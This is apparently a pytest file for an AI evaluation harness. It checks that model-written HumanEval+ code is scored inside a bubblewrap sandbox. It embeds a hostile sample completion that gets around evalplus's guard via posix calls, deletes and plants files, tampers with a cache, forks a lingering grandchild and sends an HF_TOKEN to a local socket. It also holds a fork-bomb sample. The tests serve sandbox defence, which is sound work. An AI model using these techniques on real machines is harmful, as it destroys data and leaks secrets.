"""Model-written code is scored inside bubblewrap (halo_core/evals/sandbox.py): a hostile
completion of HumanEval/0 that deletes and plants files outside its work dir, opens a TCP
connection, reads the environment, tampers with the host's evalplus cache and leaves a
grandchild behind scores as a failure and leaves the machine as it was. A real evalplus run,
a real bubblewrap, a small OpenAI-compatible server standing in for the model."""

from __future__ import annotations

import http.server
import json
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from halo_core.evals.sandbox import sandbox_problem

pytestmark = pytest.mark.skipif(sandbox_problem() is not None, reason=f"no sandbox here: {sandbox_problem()}")

HOSTILE = '''
import os, posix, socket
def has_close_elements(numbers, threshold):
    # evalplus's guard sets open, os.unlink, os.fork, ... to None: posix.* is left alone
    if posix.fork() == 0:  # a grandchild that would outlive the scorer
        os.setsid()
        posix.execv("/bin/sleep", ["sleep", "3617"])
    posix.unlink("{victim}")
    for path, text in (("{planted}", b"planted"), (os.path.expanduser("{cache}"), b"tampered")):
        fd = posix.open(path, posix.O_WRONLY | posix.O_CREAT, 0o644)
        posix.write(fd, text)
        posix.close(fd)
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(os.environ.get("HF_TOKEN", "-").encode())
    return any(abs(a - b) < threshold for i, a in enumerate(numbers) for b in numbers[i + 1:])
'''


class Model:
    """/v1/models and non-streamed /v1/chat/completions answering `reply` to everything."""

    def __init__(self, reply: str):
        body = json.dumps({"choices": [{"index": 0, "message": {"role": "assistant", "content": reply},
                                        "finish_reason": "stop"}],
                           "usage": {"prompt_tokens": 1, "completion_tokens": 1}}).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _send(self, data: bytes):
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self):
                self._send(json.dumps({"object": "list", "data": [{"id": "hostile"}]}).encode())

            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self._send(body)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


def _survivors() -> list[str]:
    done = subprocess.run(["pgrep", "-f", "sleep 3617"], capture_output=True, text=True)
    return done.stdout.split()


def test_hostile_code_scores_as_a_failure_and_touches_nothing(halo, tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    victim, planted = tmp_path / "victim.txt", tmp_path / "planted.txt"
    victim.write_text("keep me")
    cache = Path("~/.cache/evalplus/halo-sandbox-test.txt").expanduser()
    cache.unlink(missing_ok=True)
    code = HOSTILE.format(victim=victim, planted=planted, cache="~/.cache/evalplus/halo-sandbox-test.txt",
                          port=listener.getsockname()[1])
    model = Model(f"```python\n{code}\n```")
    started = time.monotonic()
    try:
        done = halo("eval", "--suite", "humaneval+", "--limit", "1", "--endpoint", model.url,
                    "--json", env={"HF_TOKEN": "hf_secret_token"})
    finally:
        model.httpd.shutdown()
    took = time.monotonic() - started
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)
    score = out["scores"]["humaneval+"]
    assert score["status"] == "complete" and score["scores"]["pass@1"] == 0.0  # unsandboxed: 1.0
    assert victim.read_text() == "keep me" and not planted.exists() and not cache.exists()
    try:
        connection, _ = listener.accept()
        pytest.fail(f"the sandbox let a connection through: {connection.recv(100)!r}")
    except TimeoutError:
        pass
    assert _survivors() == []
    assert took < 120  # the grandchild did not hold the scorer to its timeout
    log = (Path(out["path"]) / "humanevalplus" / "evalplus.log").read_text()
    assert "hf_secret_token" not in log


def test_scoring_refuses_without_a_sandbox_unless_told(halo, tmp_path, monkeypatch):
    """No bubblewrap on PATH: code suites refuse with the reason (as root even with
    --unsafe-local-exec); the run records it, nothing ran."""
    import os

    model = Model("```python\ndef has_close_elements(numbers, threshold):\n    return False\n```")
    env = {"PATH": "/usr/local/sbin:/nonexistent"}  # (bwrap lives in /usr/bin)
    try:
        done = halo("eval", "--suite", "humaneval+", "--limit", "1", "--endpoint", model.url, "--json", env=env)
        forced = halo("eval", "--suite", "humaneval+", "--limit", "1", "--endpoint", model.url, "--json",
                      "--unsafe-local-exec", env=env)
    finally:
        model.httpd.shutdown()
    error = json.loads(done.stdout)["scores"]["humaneval+"]["error"]
    assert error.startswith("evalplus scoring refused: it runs model-written code")
    assert "bubblewrap (bwrap) is not installed" in error
    forced_error = json.loads(forced.stdout)["scores"]["humaneval+"]
    if os.geteuid() == 0:
        assert "as root only inside a sandbox" in forced_error["error"]
    else:
        assert forced_error["status"] == "complete"


BOMB = """
import os, posix, time
n, start = 0, time.time()
while time.time() - start < 20:
    try:
        if posix.fork() == 0:
            time.sleep(3618)
            os._exit(0)
        n += 1
    except OSError as exc:
        print("fork refused after", n, exc)
        break
"""


def test_a_fork_bomb_is_bounded_and_dies_with_the_scorer(tmp_path):
    """Processes are limited (a pids cgroup as root, RLIMIT_NPROC otherwise), and every process
    the scorer left dies with it."""
    import sys

    from halo_core.evals.sandbox import NPROC_ROOM, run_scorer

    (tmp_path / "bomb.py").write_text(BOMB)
    started = time.monotonic()
    code = run_scorer([sys.executable, "bomb.py"], workdir=tmp_path, env={}, log=tmp_path / "log.txt",
                      timeout=60, what="the bomb")
    log = (tmp_path / "log.txt").read_text()
    assert code == 0 and "fork refused after" in log, log
    assert int(log.split("fork refused after ")[1].split()[0]) <= NPROC_ROOM
    assert time.monotonic() - started < 30
    assert subprocess.run(["pgrep", "-f", "sleep 3618"], capture_output=True).stdout == b""
    assert subprocess.run(["pgrep", "-f", "bomb.py"], capture_output=True).stdout == b""
